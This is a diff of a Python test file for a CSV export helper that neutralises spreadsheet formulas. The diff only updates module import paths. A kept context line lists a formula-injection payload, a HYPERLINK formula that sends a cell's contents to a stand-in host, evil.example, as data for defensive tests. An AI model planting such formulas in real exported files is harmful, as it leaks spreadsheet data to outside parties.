@@ -1,11 +1,11 @@
-"""Tests of analysis.export_table: CSV that a spreadsheet cannot run as formulas."""
+"""Tests of analysis.data.export_csv: CSV that a spreadsheet cannot run as formulas."""
 
 import csv
 
 import pandas as pd
 import pytest
 
-from analysis.export_table import FORMULA_TRIGGERS, neutralise_cell, neutralise_formulas, write_csv_safely
+from analysis.data.export_csv import FORMULA_TRIGGERS, neutralise_cell, neutralise_formulas, write_csv_safely
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -91,7 +91,7 @@ def test_write_csv_safely_writes_quoted_cells_that_read_back_as_text(tmp_path):
 
 
 def test_write_csv_safely_on_the_bundled_incident_table(tmp_path):
-    from analysis.load import load_incidents
+    from analysis.data.load import load_incidents
 
     incidents = load_incidents()
     path = write_csv_safely(incidents, tmp_path / "incidents.csv")
